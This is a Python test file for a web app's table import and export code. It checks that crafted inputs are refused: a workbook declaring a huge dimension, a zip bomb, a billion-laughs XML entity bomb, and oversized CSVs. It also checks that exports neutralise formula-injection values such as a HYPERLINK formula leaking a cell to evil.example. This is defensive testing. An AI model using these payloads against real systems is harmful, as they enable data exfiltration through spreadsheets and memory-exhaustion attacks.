"""Imported tables within limits (review M2, M10) and exports without live formulas (M3).

The crafted workbooks are built here: a real workbook written by openpyxl, then one part of the
zip rewritten (a declared ``<dimension>``, a row far down, a bomb of padding).
"""

from __future__ import annotations

import csv
import io
import re
import zipfile
from datetime import UTC, datetime
from typing import Any

import pytest
from fastapi.testclient import TestClient
from openpyxl import Workbook, load_workbook

from app.carbon.report import csv_text
from app.core import xlsx
from app.core.cells import formula_like, neutralise
from app.core.config import Settings
from app.core.limits import TableLimits, TableTooLarge
from app.economy import tables
from app.reports import files
from tests.api.conftest import create_park
from tests.assets.land_util import park_with_boundary

XLSX = tables.XLSX
SHEET = "xl/worksheets/sheet1.xml"
LIMITS = TableLimits.of(Settings())


def workbook(rows: list[list[Any]]) -> bytes:
    book = Workbook()
    sheet = book.active
    assert sheet is not None
    for row in rows:
        sheet.append(row)
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def rewrite_sheet(body: bytes, change: Any) -> bytes:
    """The workbook with sheet1.xml replaced by ``change(old_xml)``."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(body)) as source, zipfile.ZipFile(out, "w") as target:
        for part in source.infolist():
            data = source.read(part.filename)
            if part.filename == SHEET:
                data = change(data)
            target.writestr(part.filename, data, compress_type=zipfile.ZIP_DEFLATED)
    return out.getvalue()


def declaring(ref: str) -> bytes:
    """A tiny workbook (two rows) whose sheet declares the dimension ``ref``."""
    body = workbook([["enterprise_id", "month"], ["acme", "2026-01"]])
    return rewrite_sheet(
        body,
        lambda xml: re.sub(rb'<dimension ref="[^"]*"', f'<dimension ref="{ref}"'.encode(), xml),
    )


def read(body: bytes, limits: TableLimits = LIMITS) -> list[dict[str, Any]]:
    return tables.read_rows(XLSX, io.BytesIO(body), limits)


@pytest.fixture(scope="module")
def import_url(client: TestClient, admin: dict[str, str]) -> str:
    return f"/api/v1/parks/{create_park(client, admin).id}/economy/reports/import?dry_run=true"


def refused(client: TestClient, admin: dict[str, str], url: str, body: bytes, media: str) -> str:
    response = client.post(url, content=body, headers={**admin, "Content-Type": media})
    assert response.status_code == 422, response.text
    assert response.headers["content-type"] == "application/problem+json"
    detail: str = response.json()["detail"]
    return detail


def test_a_tiny_workbook_declaring_a_huge_sheet_is_refused(
    client: TestClient, admin: dict[str, str], import_url: str
) -> None:
    body = declaring("A1:XFD1048576")
    assert len(body) < 10_000
    detail = refused(client, admin, import_url, body, XLSX)
    assert "declares 1048576 rows" in detail and "PARKTWIN_IMPORT_MAX_ROWS" in detail
    wide = refused(client, admin, import_url, declaring("A1:XFD2"), XLSX)
    assert "16384 columns" in wide and "PARKTWIN_IMPORT_MAX_COLUMNS" in wide
    assert read(declaring("A1:B2")) == [{"enterprise_id": "acme", "month": "2026-01"}]


def test_a_row_far_below_is_refused_without_a_dimension(
    client: TestClient, admin: dict[str, str], import_url: str
) -> None:
    def far_row(xml: bytes) -> bytes:
        xml = re.sub(rb"<dimension [^>]*/>", b"", xml)
        far = b'<row r="1048576"><c r="A1048576" t="inlineStr"><is><t>x</t></is></c></row>'
        return xml.replace(b"</sheetData>", far + b"</sheetData>")

    body = rewrite_sheet(workbook([["enterprise_id"], ["acme"]]), far_row)
    assert b"<dimension" not in zipfile.ZipFile(io.BytesIO(body)).read(SHEET)
    assert "more than 50000 rows" in refused(client, admin, import_url, body, XLSX)


def test_a_zip_bomb_sheet_is_refused_before_it_is_opened(
    client: TestClient, admin: dict[str, str], import_url: str
) -> None:
    padding = b"<!--" + b" " * (20 * 2**20) + b"-->"
    body = rewrite_sheet(
        workbook([["enterprise_id"]]),
        lambda xml: xml.replace(b"<sheetData", padding + b"<sheetData"),
    )
    assert len(body) < 100_000
    detail = refused(client, admin, import_url, body, XLSX)
    assert "compressed" in detail and "PARKTWIN_IMPORT_XLSX_MAX_RATIO" in detail
    small = TableLimits(**{**LIMITS.__dict__, "xlsx_uncompressed": 2**20, "xlsx_ratio": 10**6})
    with pytest.raises(tables.TableError, match="PARKTWIN_IMPORT_XLSX_MAX_UNCOMPRESSED"):
        read(body, small)


def test_too_many_rows_columns_or_too_long_cells(
    client: TestClient, admin: dict[str, str], import_url: str
) -> None:
    rows = "enterprise_id,month\n" + "acme,2026-01\n" * 50_001
    assert "more than 50000 rows" in refused(client, admin, import_url, rows.encode(), "text/csv")
    wide = ",".join(f"c{i}" for i in range(201)) + "\n"
    assert "201 columns" in refused(client, admin, import_url, wide.encode(), "text/csv")
    long = "enterprise_id,month\n" + "a" * 40_000 + ",2026-01\n"
    detail = refused(client, admin, import_url, long.encode(), "text/csv")
    assert "row 1: a cell holds more than 32768 bytes" in detail
    commas = "enterprise_id\n" + "," * (201 * 32_771) + "\n"
    assert "a line is longer" in refused(client, admin, import_url, commas.encode(), "text/csv")
    small = TableLimits(**{**LIMITS.__dict__, "rows": 3, "columns": 3, "cell_bytes": 64})
    with pytest.raises(tables.TableError, match="declares 5 rows; at most 3"):
        read(workbook([["a"], *[[i] for i in range(4)]]), small)
    assert len(read(workbook([["a"], *[[i] for i in range(3)]]), small)) == 3
    with pytest.raises(tables.TableError, match="4 columns"):
        read(workbook([["a", "b", "c", "d"]]), small)
    with pytest.raises(tables.TableError, match="more than 64 bytes"):
        read(workbook([["a"], ["é" * 33]]), small)


def test_asset_imports_are_held_to_the_same_limits(
    client: TestClient, admin: dict[str, str]
) -> None:
    url = f"/api/v1/parks/{park_with_boundary(client, admin)}/import/spaces?dry_run=true"
    wide = (",".join(f"c{i}" for i in range(201)) + "\n").encode()
    assert "201 columns" in refused(client, admin, url, wide, "text/csv")
    rows = ("id,building_id,name,area_m2\n" + "s,b,n,1\n" * 50_001).encode()
    assert "more than 50000 rows" in refused(client, admin, url, rows, "text/csv")
    features = {"type": "FeatureCollection", "features": [{"type": "Feature"}] * 50_001}
    response = client.post(url, json=features, headers=admin)
    assert response.status_code == 422 and "more than 50000 rows" in response.json()["detail"]


def test_check_zip_refuses_what_is_not_a_zip() -> None:
    with pytest.raises(xlsx.NotAWorkbook):
        xlsx.check_zip(io.BytesIO(b"PK\x03\x04junk"), LIMITS)
    with pytest.raises(TableTooLarge, match="unpacks to"):
        tiny = TableLimits(**{**LIMITS.__dict__, "xlsx_uncompressed": 100})
        xlsx.check_zip(io.BytesIO(workbook([["a"]])), tiny)


DANGEROUS = ['=HYPERLINK("http://evil.example/?x="&A1,"open")', "+1+1", "-2+3", "@SUM(A1)",
             "\t=1", "\r=1"]  # fmt: skip


def test_the_formula_rule() -> None:
    assert [neutralise(v) for v in DANGEROUS] == ["'" + v for v in DANGEROUS]
    assert all(formula_like(v) for v in DANGEROUS)
    for safe in ("plain", "a=b", "", "'=x", -5, 3.5, 0, None):
        assert neutralise(safe) == safe and not formula_like(safe)


def test_csv_exports_neutralise_formulas_and_keep_numbers() -> None:
    when = datetime(2026, 1, 2, 3, 4, tzinfo=UTC)
    response = files.export(
        "csv", "t", ["name", "n", "f", "when"], [[v, -5, -1.5, when] for v in DANGEROUS]
    )
    text = bytes(response.body).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert [r[0] for r in rows[1:]] == ["'" + v for v in DANGEROUS]
    assert {(r[1], r[2], r[3]) for r in rows[1:]} == {("-5", "-1.5", "2026-01-02T03:04:00Z")}
    assert files.export("csv", "t", ["=evil"], []).body.decode("utf-8-sig").startswith("'=evil")


def test_xlsx_exports_have_no_formula_cells() -> None:
    response = files.export("xlsx", "t", ["=name", "n"], [[v, -5] for v in DANGEROUS])
    sheet = load_workbook(io.BytesIO(bytes(response.body))).worksheets[0]
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert cells and not [c.coordinate for c in cells if c.data_type == "f"]
    values = list(sheet.iter_rows(values_only=True))
    assert values[0] == ("=name", "n")
    # The text as it was, in a string cell (XML reads a carriage return back as a newline).
    assert [r[0] for r in values[1:]] == [v.replace("\r", "\n") for v in DANGEROUS]
    assert {r[1] for r in values[1:]} == {-5}
    assert all(c.data_type == "n" for c in sheet["B"][1:])
    raw = zipfile.ZipFile(io.BytesIO(bytes(response.body))).read(SHEET)
    assert b"<f>" not in raw


def test_the_carbon_csv_neutralises_formulas() -> None:
    source = '=HYPERLINK("http://evil.example","x")'
    version = {"value": -0.5, "source": source, "valid_from": "2026-01-01"}
    line = {"carrier": "@carrier", "unit": "kWh", "scope": None, "quantity": -3,
            "coefficient_equivalent": version, "coefficient_equal_value": None,
            "tce_equivalent": 1, "tce_equal_value": 1, "factor_location": version,
            "factor_market": None, "green_kwh": 0, "location_t": -1.25, "market_t": 2}  # fmt: skip
    report = {"park_id": "p", "enterprise_id": None, "year": 2026, "grid_region": "+east",
              "audit": [line], "totals": {"location_t": -1.25}}  # fmt: skip
    rows = list(csv.reader(io.StringIO(csv_text(report))))
    cells = [c for row in rows for c in row]
    assert "'" + source in cells and "'@carrier" in cells and "'+east" in cells
    assert source not in cells and "-3" in cells and "-1.25" in cells
    assert not [c for c in cells if formula_like(c) and not _number(c)]


def _number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def test_a_workbook_with_entity_expansion_is_refused(
    client: TestClient, admin: dict[str, str], import_url: str
) -> None:
    """openpyxl parses through defusedxml (a dependency), so a billion-laughs sheet is refused
    as a bad workbook instead of expanding in memory."""
    from openpyxl import xml as openpyxl_xml

    assert openpyxl_xml.DEFUSEDXML  # without it, the sheet below would expand to 1 GB
    laughs = (
        b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
        + b"".join(
            f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">'.encode()
            for i in range(1, 10)
        )
        + b"]>"
    )
    body = rewrite_sheet(
        workbook([["enterprise_id", "month"], ["acme", "2026-01"]]),
        lambda xml: laughs + xml.split(b"?>", 1)[-1].replace(b"<sheetData>", b"<sheetData>&lol9;"),
    )
    detail = refused(client, admin, import_url, body, XLSX)
    assert "lol" not in detail
